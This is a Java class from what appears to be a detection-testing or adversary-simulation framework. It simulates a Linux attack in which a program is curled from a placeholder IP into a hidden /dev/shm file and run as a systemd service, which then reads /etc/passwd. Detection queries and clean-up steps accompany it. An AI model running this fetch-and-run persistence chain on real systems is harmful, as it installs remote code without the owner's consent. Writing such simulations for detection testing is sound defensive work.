package org.conshelf.simulate;

/// A program is fetched into /dev/shm and run by a service.
final class ServiceFromTmp {
    private static final String PROGRAM = "/dev/shm/.cache-sync";
    private static final String UNIT = "cache-sync.service";

    static final SimulatedTest TEST =
            SimulatedTest.attack(
                            "service-from-tmp",
                            "A systemd service whose program was dropped into /dev/shm")
                    .on(SimulatedTest.Platform.LINUX)
                    .techniques("T1543.002", "T1569.003")
                    .behaviour(
                            """
                            A program is fetched with curl to a hidden name in /dev/shm and made executable. A unit that runs it is
                            copied into place, enabled and started at once.
                            """)
                    .signal(
                            "systemd starts a program out of /dev/shm.",
                            """
                            DeviceProcessEvents
                            | where InitiatingProcessId == 1 and FolderPath startswith "/dev/shm/."
                            """)
                    .signal(
                            "The unit is enabled and started with one command.",
                            """
                            DeviceProcessEvents
                            | where FileName == "systemctl" and ProcessCommandLine has_all ("enable", "--now", "cache-sync")
                            """)
                    .commands(
                            """
                            curl -fsSo /dev/shm/.cache-sync http://203.0.113.66/s && chmod 755 /dev/shm/.cache-sync
                            printf '[Service]\\nExecStart=/dev/shm/.cache-sync\\n[Install]\\nWantedBy=multi-user.target\\n' > /dev/shm/u
                            cp /dev/shm/u /etc/systemd/system/cache-sync.service
                            systemctl enable --now cache-sync.service
                            """)
                    .cleanUp(
                            """
                            systemctl disable --now cache-sync.service
                            rm -f /etc/systemd/system/cache-sync.service /dev/shm/.cache-sync /dev/shm/u
                            systemctl daemon-reload
                            """)
                    .plays(stage -> RootShell.onEachHost(stage, ServiceFromTmp::play));

    private ServiceFromTmp() {}

    private static void play(RootShell shell) {
        var host = shell.host();
        var curl = shell.types("curl", "-fsSo", PROGRAM, "http://203.0.113.66/s");
        host.created(curl, PROGRAM);
        shell.types("chmod", "755", PROGRAM);
        shell.writes("/dev/shm/u");
        var cp = shell.types("cp", "/dev/shm/u", "/etc/systemd/system/" + UNIT);
        host.created(cp, "/etc/systemd/system/" + UNIT);
        var systemctl = shell.types("systemctl", "enable", "--now", UNIT);
        host.enabled(
                systemctl,
                "/etc/systemd/system/multi-user.target.wants/" + UNIT,
                "/etc/systemd/system/" + UNIT);
        host.reloaded();
        host.started(UNIT, UNIT);
        var program = host.serviceProcess(PROGRAM);
        host.run(program, "sh", "-c", "uname -a; cat /etc/passwd");
        host.stage().pass(180_000);
        shell.removes(UNIT);
    }
}
